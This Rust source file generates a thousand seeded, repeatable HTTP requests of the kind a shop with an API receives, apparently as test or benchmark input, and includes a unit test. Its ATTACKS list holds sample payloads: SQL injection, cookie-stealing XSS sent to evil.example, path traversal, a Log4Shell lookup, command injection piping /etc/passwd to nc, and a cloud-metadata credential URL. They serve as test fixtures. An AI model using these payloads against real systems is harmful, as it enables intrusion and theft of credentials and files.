//! A thousand requests as a shop with an API gets them: pages, searches, forms, JSON, and a few attacks.

use std::fmt::Write as _;

use super::random::Random;
use super::requests::with_fields;

/// The seed of the traffic that is measured.
pub const SEED: u64 = 20_261_122;

/// The user agents that come, browsers and programs.
const BROWSERS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
];
const PROGRAMS: [&str; 3] = ["okhttp/5.2.1", "python-requests/2.32.5", "ShopApp/7.4 (iOS 19.1)"];
const LANGUAGES: [&str; 4] =
    ["de-DE,de;q=0.9,en;q=0.7", "en-US,en;q=0.9", "fr-FR,fr;q=0.8,en;q=0.5", "ja,en;q=0.6"];
const WORDS: [&str; 24] = [
    "blue",
    "shoe",
    "winter",
    "Gr%C3%B6%C3%9Fe",
    "coat",
    "size",
    "table",
    "select",
    "union",
    "leather",
    "order",
    "price",
    "gift",
    "for",
    "kids",
    "and",
    "where",
    "d%C3%A9j%C3%A0",
    "script",
    "drop",
    "sale",
    "caf%C3%A9",
    "no.5",
    "O%27Neill",
];
const SENTENCES: [&str; 6] = [
    "Please leave the parcel with the neighbours.",
    "I'd like it in blue; is that possible?",
    "Works as expected, would buy again (twice!).",
    "Times & Schedule: open 9-17, closed on Sundays",
    "Grüße aus München, alles bestens",
    "Delivery took 3 days -- not bad at all.",
];
const ATTACKS: [&str; 8] = [
    "1%27%20OR%20%271%27=%271",
    "-1%20UNION%20ALL%20SELECT%20NULL,version(),NULL--",
    "%3Cscript%3Edocument.location=%27//evil.example/%27%2Bdocument.cookie%3C/script%3E",
    "../../../../../../etc/passwd",
    "%24%7Bjndi:ldap://evil.example/a%7D",
    ";cat%20/etc/passwd%7Cnc%20evil.example%204444",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
];

/// That many requests, over the wire; the same ones for the same seed.
pub fn mixed(seed: u64, count: usize) -> Vec<Vec<u8>> {
    let mut random = Random::new(seed);
    (0..count).map(|_| one(&mut random)).collect()
}

fn one(random: &mut Random) -> Vec<u8> {
    match random.below(100) {
        0..45 => page(random),
        45..60 => search(random),
        60..75 => api_get(random),
        75..88 => api_post(random),
        88..98 => form(random),
        _ => attack(random),
    }
}

fn page(random: &mut Random) -> Vec<u8> {
    let (a, b) = (random.one(&WORDS), random.one(&WORDS));
    let mut target = match random.below(4) {
        0 => format!("/products/{a}-{b}-{}", random.below(100_000)),
        1 => format!("/category/{a}?page={}&sort={b}", random.below(40)),
        2 => format!("/static/js/app.{:016x}.js", random.next()),
        _ => format!("/images/{a}/{:08x}.webp?w={}", random.next() >> 32, random.below(4) * 400),
    };
    if random.percent(20) {
        let _ = write!(
            target,
            "{}utm_source=newsletter&utm_campaign={a}",
            if target.contains('?') { '&' } else { '?' }
        );
    }
    browser(random, "GET", &target, "", b"")
}

fn search(random: &mut Random) -> Vec<u8> {
    let words: Vec<&str> = (0..=random.below(5)).map(|_| random.one(&WORDS)).collect();
    let mut target = format!("/search?q={}", words.join("+"));
    for name in ["min", "max", "brand", "color", "in_stock"] {
        if random.percent(30) {
            let _ = write!(target, "&{name}={}", random.below(300));
        }
    }
    browser(random, "GET", &target, "", b"")
}

fn api_get(random: &mut Random) -> Vec<u8> {
    let target = match random.below(3) {
        0 => format!(
            "/api/v2/orders/{:08x}-{:04x}-4a11-9c3d-{:012x}",
            random.below(1 << 32),
            random.below(1 << 16),
            random.below(1 << 48)
        ),
        1 => format!(
            "/api/v2/products?ids={},{},{}&fields=name,price,stock",
            random.below(9999),
            random.below(9999),
            random.below(9999)
        ),
        _ => format!(
            "/api/v2/events?since=2026-11-{:02}T08:{:02}:00Z&cursor={:016x}",
            1 + random.below(28),
            random.below(60),
            random.next()
        ),
    };
    program(random, "GET", &target, "", b"")
}

fn api_post(random: &mut Random) -> Vec<u8> {
    let mut items = Vec::new();
    for _ in 0..=random.below(12) {
        let (name, note) = (random.one(&WORDS), random.one(&SENTENCES));
        items.push(serde_json::json!({
            "sku": format!("{name}-{}", random.below(10_000)), "count": 1 + random.below(9),
            "price": random.below(20_000) as f64 / 100.0, "gift": random.percent(10), "note": note,
        }));
    }
    let body = serde_json::json!({"cart": {"currency": "EUR", "items": items}, "client": {"version": "7.4"}});
    program(random, "POST", "/api/v2/cart", "application/json", body.to_string().as_bytes())
}

fn form(random: &mut Random) -> Vec<u8> {
    let mut body = format!("csrf_token={:016x}{:016x}", random.next(), random.next());
    for name in ["first_name", "last_name", "street", "city"] {
        let _ = write!(body, "&{name}={}+{}", random.one(&WORDS), random.below(99));
    }
    let message =
        random.one(&SENTENCES).replace('%', "%25").replace('&', "%26").replace('+', "%2B").replace(' ', "+");
    let _ = write!(body, "&email=someone{}%40mail.example&message={message}", random.below(9999));
    browser(random, "POST", "/checkout/address", "application/x-www-form-urlencoded", body.as_bytes())
}

fn attack(random: &mut Random) -> Vec<u8> {
    let payload = random.one(&ATTACKS);
    if random.percent(50) {
        let target = format!("/products?id={payload}&page=1");
        return browser(random, "GET", &target, "", b"");
    }
    let body = format!("name=x&comment={payload}");
    browser(random, "POST", "/comments", "application/x-www-form-urlencoded", body.as_bytes())
}

fn browser(random: &mut Random, method: &str, target: &str, content_type: &str, body: &[u8]) -> Vec<u8> {
    let cookie = format!(
        "session={:016x}{:016x}; theme={}; cart={}; _ga=GA1.2.{}.{}",
        random.next(),
        random.next(),
        random.one(&["dark", "light"]),
        random.below(1000),
        random.below(1 << 31),
        1_760_000_000 + random.below(10_000_000)
    );
    let referer = format!("https://shop.example/category/{}?page={}", random.one(&WORDS), random.below(20));
    let mut fields = vec![
        ("Host", "shop.example"),
        ("User-Agent", random.one(&BROWSERS)),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Accept-Language", random.one(&LANGUAGES)),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Sec-Fetch-Site", "same-origin"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Connection", "keep-alive"),
    ];
    if random.percent(85) {
        fields.push(("Cookie", &cookie));
    }
    if random.percent(70) {
        fields.push(("Referer", &referer));
    }
    with_fields(method, target, &fields, content_type, body)
}

fn program(random: &mut Random, method: &str, target: &str, content_type: &str, body: &[u8]) -> Vec<u8> {
    let bearer = format!(
        "Bearer eyJhbGciOiJIUzI1NiJ9.{:016x}{:016x}.{:016x}",
        random.next(),
        random.next(),
        random.next()
    );
    let trace = format!("00-{:016x}{:016x}-{:016x}-01", random.next(), random.next(), random.next());
    let fields = [
        ("Host", "api.shop.example"),
        ("User-Agent", random.one(&PROGRAMS)),
        ("Accept", "application/json"),
        ("Accept-Encoding", "gzip"),
        ("Authorization", bearer.as_str()),
        ("traceparent", trace.as_str()),
    ];
    with_fields(method, target, &fields, content_type, body)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::judge::Message;

    #[test]
    fn traffic_is_mixed_whole_and_repeatable() {
        let requests = mixed(SEED, 1000);
        assert_eq!(requests, mixed(SEED, 1000));
        assert_ne!(requests, mixed(SEED + 1, 1000));
        let mut kinds: BTreeMap<String, usize> = BTreeMap::new();
        for request in &requests {
            let message = Message::read(request);
            assert!(message.complete && !message.request.headers.is_empty());
            let kind = message.values("content-type").next().unwrap_or_default().escape_ascii();
            *kinds.entry(format!("{} {kind}", message.method.escape_ascii())).or_default() += 1;
        }
        let counts: Vec<usize> = kinds.values().copied().collect();
        assert_eq!(counts.len(), 3, "{kinds:?}");
        assert!(counts.iter().all(|count| *count >= 80), "{kinds:?}");
    }
}
